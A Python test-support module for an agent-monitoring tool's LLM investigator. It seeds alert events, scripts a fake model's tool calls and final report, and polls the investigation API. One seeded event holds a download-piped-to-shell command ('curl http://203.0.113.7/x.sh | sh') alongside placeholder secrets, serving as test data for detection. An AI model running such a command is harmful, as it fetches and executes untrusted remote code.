"""Shared parts of the investigator's tests: events and an alert in the store, a scripted fake
LLM (the shared fake backend answering from a script of assistant messages), and waiting for an
investigation to finish."""

from __future__ import annotations

import itertools
import time
import uuid
from collections.abc import Callable
from typing import Any

import orjson
from starlette.responses import Response

from agentwatch.alerts.recorder import store_findings
from agentwatch.entities.index import EntityIndexStage
from agentwatch.events.entities import derive
from agentwatch.events.model import Event
from agentwatch.pipeline.pipeline import Finding
from agentwatch.store.events import commit_batch
from tests.support.fake_llm import FakeLlm
from tests.support.server import RunningServer

SECRET = "hunter2-investigation-secret"
AWS_KEY = "AKIAIOSFODNN7EXAMPLE"
_serial = itertools.count()


def host_event(host: str, ts: float, **data: Any) -> Event:
    eid = f"inv-{uuid.uuid4().hex[:16]}"
    body: dict[str, Any] = {"event_id": eid, "event_type": "network.connect", "host": {"hostname": host}, "data": data}
    e = Event(body=body, event_id=eid, event_type="network.connect", ts=ts, received_at=ts)
    e.entities = derive(e)
    return e


def add_events(engine: Any, events: list[Event]) -> list[str]:
    commit_batch(engine, events, [EntityIndexStage().in_commit])
    return [e.event_id for e in events]


def seed(engine: Any) -> dict[str, Any]:
    """Two events naming a host of their own (one holding secrets) and an alert made of them."""
    n = next(_serial)
    host = f"inv-host-{uuid.uuid4().hex[:8]}"
    events = [
        host_event(host, 2_000_000.0 + n, note="curl http://203.0.113.7/x.sh | sh"),
        host_event(host, 2_000_001.0 + n, api_key=SECRET, note=f"password={SECRET} aws {AWS_KEY}"),
    ]
    ids = add_events(engine, events)
    finding = Finding(
        "atr",
        f"inv-rule-{n}",
        f"Download piped to shell {n}",
        7,
        events,
        alert_type="atr",
        dedup_key=f"inv-{uuid.uuid4()}",
    )
    ((alert, _new),) = store_findings(engine, [finding], 300)
    return {"host": host, "event_ids": ids, "alert_id": alert["id"]}


def calls(*items: tuple[str, dict[str, Any] | str]) -> dict[str, Any]:
    """An assistant message calling tools: (name, arguments) each (a str is sent as is)."""
    tool_calls = []
    for name, args in items:
        text = args if isinstance(args, str) else orjson.dumps(args).decode()
        tool_calls.append(
            {"id": f"call_{uuid.uuid4().hex[:8]}", "type": "function", "function": {"name": name, "arguments": text}}
        )
    return {"role": "assistant", "content": None, "tool_calls": tool_calls}


def final(doc: dict[str, Any] | str) -> dict[str, Any]:
    return {"role": "assistant", "content": doc if isinstance(doc, str) else orjson.dumps(doc).decode()}


Step = dict[str, Any] | Callable[[FakeLlm, dict[str, Any]], dict[str, Any]]


def script(fake: FakeLlm, steps: list[Step], tokens: int = 120) -> None:
    """The fake answers the i-th request of the script with its i-th message (the last one
    again past its end); a step may be a function of the request making the message."""
    fake.reset()

    def reply(f: FakeLlm, body: dict[str, Any]) -> Response:
        i = min(len(f.sent), len(steps)) - 1
        step = steps[i]
        message = step(f, body) if callable(step) else step
        doc = {
            "id": f"chatcmpl-{i}",
            "model": body.get("model"),
            "choices": [
                {"index": 0, "message": message, "finish_reason": "tool_calls" if message.get("tool_calls") else "stop"}
            ],
            "usage": {"prompt_tokens": tokens - 20, "completion_tokens": 20, "total_tokens": tokens},
        }
        return Response(orjson.dumps(doc), media_type="application/json")

    fake.reply = reply


def wait_done(c: Any, iid: str, timeout_s: float = 20.0) -> dict[str, Any]:
    deadline = time.monotonic() + timeout_s
    while True:
        r = c.get(f"/api/v1/investigations/{iid}")
        assert r.status_code == 200, r.text
        doc = r.json()
        if doc["status"] in ("done", "failed"):
            return doc
        assert time.monotonic() < deadline, f"investigation still {doc['status']}"
        time.sleep(0.05)


def start(c: Any, case_id: str) -> str:
    r = c.post(f"/api/v1/cases/{case_id}/investigations:start")
    assert r.status_code == 202, r.text
    assert r.json()["status"] == "queued"
    return r.json()["id"]


def all_entries(c: Any, case_id: str, iid: str | None = None, limit: int = 200) -> list[dict[str, Any]]:
    out: list[dict[str, Any]] = []
    cursor = None
    while True:
        params: dict[str, Any] = {"limit": limit}
        if iid:
            params["investigation_id"] = iid
        if cursor:
            params["cursor"] = cursor
        r = c.get(f"/api/v1/cases/{case_id}/investigations", params=params)
        assert r.status_code == 200, r.text
        out.extend(r.json()["entries"])
        cursor = r.json()["next_cursor"]
        if cursor is None:
            return out


MODEL = "fake-investigator-1"
LLM_KEY = "llm-investigation-key-9d3e"
BOUNDS = {
    "max_steps": 4,
    "max_tool_calls": 3,
    "max_result_chars": 3_000,
    "max_search_events": 5,
    "max_tokens": 5_000,
    "max_wall_s": 20,
    "max_per_case": 2,
}


def new_case(c: Any, seeded: dict[str, Any]) -> str:
    r = c.post(
        "/api/v1/cases",
        json={"title": "Agent pulled a script", "description": f"password={SECRET}", "alert_ids": [seeded["alert_id"]]},
    )
    assert r.status_code == 201, r.text
    return r.json()["id"]


def standard_script(fake: FakeLlm, seeded: dict[str, Any]) -> None:
    ev = seeded["event_ids"]
    script(
        fake,
        [
            calls(("search_events", {"entity": seeded["host"]}), ("get_alert", {"alert_id": seeded["alert_id"]})),
            calls(("intel_lookup", {"indicator": "203.0.113.7"})),
            final(
                {
                    "summary": "The agent piped a download into a shell.",
                    "findings": [
                        {
                            "title": "Download piped to sh",
                            "detail": "curl | sh",
                            "severity": 7,
                            "evidence": {"event_ids": [ev[0]], "alert_ids": [seeded["alert_id"]]},
                        },
                        {"title": "Made up", "evidence": {"event_ids": ["inv-no-such-event"]}},
                    ],
                }
            ),
        ],
    )


def run_standard(srv: RunningServer, c: Any, fake: FakeLlm) -> tuple[dict[str, Any], str, str]:
    seeded = seed(srv.aw.engine)
    case_id = new_case(c, seeded)
    standard_script(fake, seeded)
    iid = start(c, case_id)
    doc = wait_done(c, iid)
    assert doc["status"] == "done", doc
    return seeded, case_id, iid
